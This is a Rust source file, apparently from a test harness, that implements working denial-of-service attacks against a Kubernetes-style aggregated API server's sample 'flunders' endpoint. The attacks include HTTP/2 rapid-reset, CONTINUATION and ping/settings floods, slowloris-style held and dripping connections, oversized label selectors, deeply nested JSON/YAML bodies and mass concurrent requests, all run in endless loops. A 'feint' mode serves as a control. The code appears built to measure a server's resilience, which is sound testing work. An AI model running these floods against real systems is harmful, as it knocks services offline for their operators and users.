//! What each attack does, in a loop, until it is ended.
use crate::{
    Attack, frames,
    sockets::{Held, Slow},
    tls,
};
use anyhow::Result;
use bytes::Bytes;
use reqwest::{Certificate, Client, Identity};
use std::{
    future::Future,
    net::SocketAddrV4,
    sync::{
        Arc,
        atomic::{AtomicU64, Ordering},
    },
    time::Duration,
};
use tokio::{
    task::{JoinSet, yield_now},
    time,
};

/// Who was thrown out comes back after this.
const PAUSE: Duration = Duration::from_millis(5);
/// As much as fits into a request line.
const LONGEST_SELECTOR: usize = 60_000;
/// As much as fits into a body.
const LONGEST_BODY: usize = 3 << 20;

const FLUNDERS: &str = "/apis/wardle.example.com/v1alpha1/namespaces/default/flunders";

/// The server that is attacked.
#[derive(Debug)]
pub struct Target {
    /// Where it listens.
    pub address: SocketAddrV4,
    /// What it is trusted by, PEM.
    pub bundle: Vec<u8>,
    /// The certificate and key, both PEM in one text, of a user who may do what the others may.
    pub identity: Vec<u8>,
}

/// An attack that goes on until this is dropped.
pub struct Band {
    blows: Arc<AtomicU64>,
    _tasks: JoinSet<()>,
    _held: Option<Held>,
}

impl Band {
    /// Begins an attack. It runs on the runtime that this is called on.
    ///
    /// # Errors
    /// The bundle or the identity is none.
    pub fn begin(attack: Attack, target: &Target) -> Result<Self> {
        match attack {
            Attack::RapidResets => flood(target, frames::resets),
            Attack::EndlessContinuations => flood(target, frames::continuation),
            Attack::PingsAndSettings => flood(target, frames::pings_and_settings),
            Attack::SilentSockets => {
                let silent = Slow { port: target.address, tls: None, beginning: Bytes::new() };
                Ok(Self::holding(5_000, &silent))
            }
            Attack::DrippingBodies => dripping_bodies(target),
            Attack::HugeSelectors => huge_selectors(target),
            Attack::DeepBodies => deep_bodies(target),
            Attack::NoisyUser => noise(target),
            Attack::Feint => Ok(feint()),
        }
    }

    /// How often it struck so far.
    pub fn blows(&self) -> u64 {
        self.blows.load(Ordering::Relaxed)
    }

    fn striking<F>(count: usize, strike: impl Fn(Arc<AtomicU64>) -> F + Clone + Send + 'static) -> Self
    where
        F: Future<Output = Result<()>> + Send,
    {
        let (mut tasks, blows) = (JoinSet::new(), Arc::<AtomicU64>::default());
        for _ in 0..count {
            let (strike, blows) = (strike.clone(), Arc::clone(&blows));
            tasks.spawn(async move {
                loop {
                    // Being thrown out is what an attacker expects.
                    if strike(Arc::clone(&blows)).await.is_err() {
                        time::sleep(PAUSE).await;
                    }
                }
            });
        }
        Self { blows, _tasks: tasks, _held: None }
    }

    fn holding(count: u64, slow: &Slow) -> Self {
        let held = Held::new(count, slow);
        Self { blows: held.count(), _tasks: JoinSet::new(), _held: Some(held) }
    }
}

impl Target {
    fn url(&self) -> String {
        format!("https://{}{FLUNDERS}", self.address)
    }

    fn client(&self) -> Result<Client> {
        let trusted = Certificate::from_pem_bundle(&self.bundle)?;
        let identity = Identity::from_pem(&self.identity)?;
        Ok(Client::builder().tls_certs_only(trusted).identity(identity).no_proxy().build()?)
    }
}

/// Their handlers read bodies that never end. As many as there are seats for writes.
fn dripping_bodies(target: &Target) -> Result<Band> {
    let tls = tls::connector(&target.bundle, Some(&target.identity), Some("http/1.1"))?;
    let head = "Host: wardle\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{";
    let beginning = format!("POST {FLUNDERS} HTTP/1.1\r\n{head}").into();
    Ok(Band::holding(200, &Slow { port: target.address, tls: Some(tls), beginning }))
}

fn huge_selectors(target: &Target) -> Result<Band> {
    let many = "a%21%3Db,".repeat(LONGEST_SELECTOR / 9) + "c";
    let one = format!("a+in+({}b)", "b,".repeat(LONGEST_SELECTOR / 2 - 10));
    let urls = [many, one].map(|selector| format!("{}?labelSelector={selector}", target.url()));
    asking(target, 8, move |noisy, blow| {
        let url = urls[usize::try_from(blow % 2).expect("0 or 1")].clone();
        async move { noisy.get(url).send().await?.bytes().await }
    })
}

fn deep_bodies(target: &Target) -> Result<Band> {
    let url = target.url();
    let lists = "[".repeat(LONGEST_BODY / 2) + &"]".repeat(LONGEST_BODY / 2 - 100);
    let maps = r#"{"a":"#.repeat(LONGEST_BODY / 5 - 100);
    let repeated = format!("{{{}\"b\":1}}", r#""a":1,"#.repeat(LONGEST_BODY / 6 - 100));
    let bodies = [lists, maps, repeated].map(Bytes::from);
    asking(target, 8, move |noisy, blow| {
        let body = bodies[usize::try_from(blow % 3).expect("0 to 2")].clone();
        let syntax = if blow % 2 == 0 { "application/json" } else { "application/yaml" };
        let request = noisy.post(&url).header("Content-Type", syntax).body(body);
        async move { request.send().await?.bytes().await }
    })
}

/// More requests at once than there are seats.
fn noise(target: &Target) -> Result<Band> {
    let url = target.url();
    asking(target, 500, move |noisy, _| {
        let request = noisy.get(&url);
        async move { request.send().await?.bytes().await }
    })
}

/// Goes through as much memory as the buffers of an attack.
fn feint() -> Band {
    let memory = Arc::new(vec![1_u8; LONGEST_BODY]);
    Band::striking(1, move |blows| {
        let memory = Arc::clone(&memory);
        async move {
            let sum: u64 = memory.iter().copied().map(u64::from).sum();
            blows.fetch_add(sum.min(1), Ordering::Relaxed);
            yield_now().await;
            Ok(())
        }
    })
}

/// Two connections; the server's threads are as many where this is measured.
fn flood(target: &Target, burst: fn(u32) -> Vec<u8>) -> Result<Band> {
    let (tls, to) = (tls::connector(&target.bundle, None, Some("h2"))?, target.address);
    Ok(Band::striking(2, move |blows| {
        let tls = tls.clone();
        async move {
            let sent = || {
                blows.fetch_add(1, Ordering::Relaxed);
            };
            frames::flood(&tls, to, burst, sent).await
        }
    }))
}

/// `count` requests of the noisy user at any time.
fn asking<F, T>(
    target: &Target,
    count: usize,
    ask: impl Fn(Client, u64) -> F + Clone + Send + 'static,
) -> Result<Band>
where
    F: Future<Output = reqwest::Result<T>> + Send,
{
    let noisy = target.client()?;
    Ok(Band::striking(count, move |blows| {
        let answer = ask(noisy.clone(), blows.fetch_add(1, Ordering::Relaxed));
        async move { Ok(answer.await.map(drop)?) }
    }))
}
